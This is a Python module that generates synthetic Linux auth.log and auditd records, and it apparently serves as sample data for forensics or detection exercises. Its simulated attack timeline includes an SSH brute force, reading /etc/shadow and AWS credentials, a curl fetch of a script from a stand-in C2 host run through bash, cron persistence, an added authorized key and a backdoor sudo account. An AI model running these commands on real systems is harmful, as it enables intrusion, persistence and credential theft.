"""What the web server wrote: auth.log (rsyslog with ISO times) and audit.log of auditd.

Forms: OpenSSH's, sudo's and cron's own messages; the Linux audit record types. Pure.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime

from yoban.content.sample._world import (
    ATTACKER,
    C2_NAME,
    END,
    WEB,
    WHEN,
    ZONE,
    Item,
    Log,
    dice,
    utc,
)

_USERS = ("root", "admin", "ubuntu", "test", "postgres", "oracle", "git", "deploy", "www", "guest")
_HOME = "/home/deploy"
_UIDS = {"root": 0, "ken.mori": 1000, "deploy": 1001}

# step, seconds after it, account, executable, arguments, path that is touched
_ACTS: tuple[tuple[str, int, str, str, str, str], ...] = (
    ("ssh", 20, "deploy", "/usr/bin/id", "id", ""),
    ("ssh", 24, "deploy", "/usr/bin/uname", "uname -a", ""),
    ("ssh", 31, "deploy", "/usr/bin/cat", "cat /etc/passwd", "/etc/passwd"),
    ("shadow", 1, "root", "/usr/bin/cat", "cat /etc/shadow", "/etc/shadow"),
    ("stage", 1, "root", "/usr/bin/curl", f"curl -fsSL http://{C2_NAME}/x.sh", ""),
    ("stage", 2, "root", "/usr/bin/bash", "bash", ""),
    ("stage", 4, "root", "/usr/bin/chmod", "chmod +x /tmp/.X1-lock/kworkerd", ""),
    ("cron", 1, "root", "/usr/bin/tee", "tee /etc/cron.d/0sysstat", "/etc/cron.d/0sysstat"),
    ("key", 1, "root", "/usr/bin/tee", "tee -a /root/.ssh/authorized_keys",
     "/root/.ssh/authorized_keys"),
    ("useradd", 1, "root", "/usr/sbin/useradd", "useradd -m -G sudo -s /bin/bash sysupd",
     "/etc/passwd"),
    ("awscreds", 1, "deploy", "/usr/bin/cat", f"cat {_HOME}/.aws/credentials",
     f"{_HOME}/.aws/credentials"),
)  # fmt: skip
_DAILY = (
    ("root", "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly"),
    ("root", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
    ("ken.mori", "/usr/bin/systemctl", "systemctl status nginx"),
    ("ken.mori", "/usr/bin/tail", "tail -n 100 /var/log/nginx/error.log"),
    ("ken.mori", "/usr/bin/df", "df -h"),
    ("deploy", "/usr/bin/git", "git -C /srv/site pull --ff-only"),
    ("deploy", "/usr/bin/rsync", "rsync -a /srv/site/ /var/www/html/"),
)


def logs(seed: int) -> list[Log]:
    """Two files."""
    return [
        Log("linux/lx-web01/auth.log", _auth(seed), _write_auth),
        Log("linux/lx-web01/audit.log", _audit(seed), _write_audit),
    ]


def _auth(seed: int) -> list[Item]:
    rng = dice(seed, "linux/auth")
    return [*_everyday(rng), *_brute(rng), *_after(rng)]


def _everyday(rng: random.Random) -> list[Item]:
    items = []
    for start in range(17, int(END), 600):
        at = float(start)
        pid = rng.randint(1000, 30000)
        pam = "pam_unix(cron:session): session"
        opened = f"{pam} opened for user root(uid=0) by (uid=0)"
        items.append(Item(at, ("CRON", pid, opened)))
        items.append(Item(at + 1.2, ("CRON", pid, f"{pam} closed for user root")))
    for at in (1300.0, 6100.0, 11900.0):  # ken.mori at work, with his key
        pid, port = rng.randint(1000, 30000), rng.randint(49152, 65535)
        key = "SHA256:9f1Kq0example0key0of0ken0mori0000000000000000"
        who = f"ken.mori from 10.20.10.22 port {port} ssh2: ED25519 {key}"
        items.append(Item(at, ("sshd", pid, f"Accepted publickey for {who}")))
        items.append(Item(at + 0.1, ("sshd", pid, _session("sshd", "ken.mori", 1000))))
        for i, command in enumerate(("/usr/bin/apt-get update", "/usr/bin/systemctl reload nginx")):
            items += _sudo(at + 40 + i * 25, "ken.mori", 1000, command, "", rng)
        items.append(
            Item(
                at + 900, ("sshd", pid, "pam_unix(sshd:session): session closed for user ken.mori")
            )
        )
    for _ in range(110):  # the internet's everyday knocking, one try an address
        pid, port = rng.randint(1000, 30000), rng.randint(1024, 65535)
        source, user = f"192.0.2.{rng.randint(200, 250)}", rng.choice(_USERS[1:7])
        at = rng.uniform(0, END)
        tail = f"{source} port {port}"
        items.append(Item(at, ("sshd", pid, f"Invalid user {user} from {tail}")))
        closed = f"Connection closed by invalid user {user} {tail} [preauth]"
        items.append(Item(at + 1.4, ("sshd", pid, closed)))
    return items


def _brute(rng: random.Random) -> list[Item]:
    items = []
    for i in range(180):
        user, pid, port = _USERS[i % len(_USERS)], 21000 + i, 42000 + i
        known = user in ("root", "deploy")
        text = f"Failed password for {'' if known else 'invalid user '}{user}"
        at = WHEN["brute"] + i * 2.1
        if not known:
            items.append(
                Item(at, ("sshd", pid, f"Invalid user {user} from {ATTACKER} port {port}"), "brute")
            )
        failed = f"{text} from {ATTACKER} port {port} ssh2"
        items.append(Item(at + 1.1 + rng.random() / 2, ("sshd", pid, failed), "brute"))
    return items


def _session(service: str, user: str, uid: int, by: str = "(uid=0)") -> str:
    return f"pam_unix({service}:session): session opened for user {user}(uid={uid}) by {by}"


def _after(rng: random.Random) -> list[Item]:
    accepted = f"Accepted password for deploy from {ATTACKER} port 42301 ssh2"
    items = [
        Item(WHEN["ssh"], ("sshd", 21301, accepted), "ssh"),
        Item(WHEN["ssh"] + 0.1, ("sshd", 21301, _session("sshd", "deploy", 1001)), "ssh"),
    ]
    items += _sudo(WHEN["shadow"], "deploy", 1001, "/usr/bin/cat /etc/shadow", "shadow", rng)
    items += _sudo(WHEN["stage"], "deploy", 1001, "/usr/bin/bash", "stage", rng)
    at = WHEN["useradd"] + 1
    made = "new user: name=sysupd, UID=1002, GID=1002, home=/home/sysupd, shell=/bin/bash"
    for i, text in enumerate(
        (
            "new group: name=sysupd, GID=1002",
            f"{made}, from=/dev/pts/1",
            "add 'sysupd' to group 'sudo'",
            "add 'sysupd' to shadow group 'sudo'",
        )
    ):
        items.append(Item(at + i / 10, ("useradd", 22417, text), "useradd"))
    return items


def _sudo(
    at: float, user: str, uid: int, command: str, step: str, rng: random.Random
) -> list[Item]:
    home = "/home/" + user
    run = f"{user:>8} : TTY=pts/1 ; PWD={home} ; USER=root ; COMMAND={command}"
    pid = rng.randint(22000, 30000)
    pam = "pam_unix(sudo:session): session"
    return [
        Item(at, ("sudo", pid, run), step),
        Item(at + 0.1, ("sudo", pid, _session("sudo", "root", 0, f"{user}(uid={uid})")), step),
        Item(at + 2.5, ("sudo", pid, f"{pam} closed for user root"), step),
    ]


def _write_auth(items: list[Item], base: datetime) -> bytes:
    lines = []
    for item in items:
        program, pid, text = item.body
        stamp = utc(base, item.at).astimezone(ZONE).isoformat(timespec="microseconds")
        tag = program if program == "sudo" else f"{program}[{pid}]"
        lines.append(f"{stamp} {WEB.name} {tag}: {text}\n")
    return "".join(lines).encode()


def _audit(seed: int) -> list[Item]:
    rng = dice(seed, "linux/audit")
    items = []
    for step, after, user, exe, words, path in _ACTS:
        act = _Act(rng.randint(2000, 30000), user, exe, words, 7)
        items.append(Item(WHEN[step] + after, _execve(act), step))
        if path:  # the kernel's rules watch these files
            items.append(Item(WHEN[step] + after + 0.004, _open(act, path), step))
    for _ in range(230):
        user, exe, words = rng.choice(_DAILY)
        ses = {"root": 3, "ken.mori": 5, "deploy": 6}[user]
        act = _Act(rng.randint(2000, 30000), user, exe, words, ses)
        items.append(Item(rng.uniform(0, END), _execve(act)))
    for at, acct, source, res, step in (
        (1300.0, "ken.mori", "10.20.10.22", "success", ""),
        (6100.0, "ken.mori", "10.20.10.22", "success", ""),
        *(
            (WHEN["brute"] + i * 2.1 + 1, _USERS[i % len(_USERS)], ATTACKER, "failed", "brute")
            for i in range(180)
        ),
        (WHEN["ssh"], "deploy", ATTACKER, "success", "ssh"),
    ):
        items.append(Item(at, [_login(acct, source, res)], step))
    return items


def _login(acct: str, source: str, res: str) -> str:
    return (
        "type=USER_LOGIN {stamp}: pid=2210 uid=0 auid=4294967295 ses=4294967295 msg='op=login "
        f'acct="{acct}" exe="/usr/sbin/sshd" hostname=? addr={source} terminal=ssh res={res}\''
    )


@dataclass(frozen=True, slots=True)
class _Act:
    """A program that somebody runs. ses: the login session it belongs to."""

    pid: int
    user: str
    exe: str
    command: str
    ses: int

    def syscall(self, number: int, success: str, items: int, key: str) -> str:
        uid = _UIDS[self.user]
        auid = _UIDS["deploy"] if self.ses == 7 else uid
        names = "uid gid euid suid fsuid egid sgid fsgid"
        ids = " ".join(f"{name}={uid}" for name in names.split())
        comm = self.exe.rsplit("/", 1)[1][:15]
        return (
            f"type=SYSCALL {{stamp}}: arch=c000003e syscall={number} success=yes exit={success} "
            f"a0=55d1c0a8e2b0 a1=55d1c0a8e300 a2=55d1c0a8e340 a3=8 items={items} "
            f"ppid={self.pid - 3} pid={self.pid} auid={auid} {ids} tty=pts1 ses={self.ses} "
            f'comm="{comm}" exe="{self.exe}" subj=unconfined key="{key}"'
        )

    def tail(self) -> tuple[str, str]:
        home = "/root" if self.user == "root" else f"/home/{self.user}"
        title = self.command.replace(" ", "\0").encode().hex().upper()
        return f'type=CWD {{stamp}}: cwd="{home}"', f"type=PROCTITLE {{stamp}}: proctitle={title}"


def _path(item: int, name: str, mode: str) -> str:
    return (
        f'type=PATH {{stamp}}: item={item} name="{name}" inode={1573 + item} dev=fd:00 mode={mode} '
        "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
        "cap_frootid=0"
    )


def _execve(act: _Act) -> list[str]:
    words = act.command.split(" ")
    arguments = " ".join(f'a{i}="{word}"' for i, word in enumerate(words))
    cwd, title = act.tail()
    return [
        act.syscall(59, "0", 2, "exec"),
        f"type=EXECVE {{stamp}}: argc={len(words)} {arguments}",
        cwd,
        _path(0, act.exe, "0100755"),
        _path(1, "/lib64/ld-linux-x86-64.so.2", "0100755"),
        title,
    ]


def _open(act: _Act, path: str) -> list[str]:
    cwd, title = act.tail()
    return [act.syscall(257, "3", 1, "watched"), cwd, _path(0, path, "0100640"), title]


def _write_audit(items: list[Item], base: datetime) -> bytes:
    lines = []
    for serial, item in enumerate(items, 18400):
        stamp = f"msg=audit({utc(base, item.at).timestamp():.3f}:{serial})"
        lines += [
            f"node={WEB.name} {line}\n".replace("{stamp}", stamp)  # name_format = HOSTNAME
            for line in item.body
        ]
    return "".join(lines).encode()
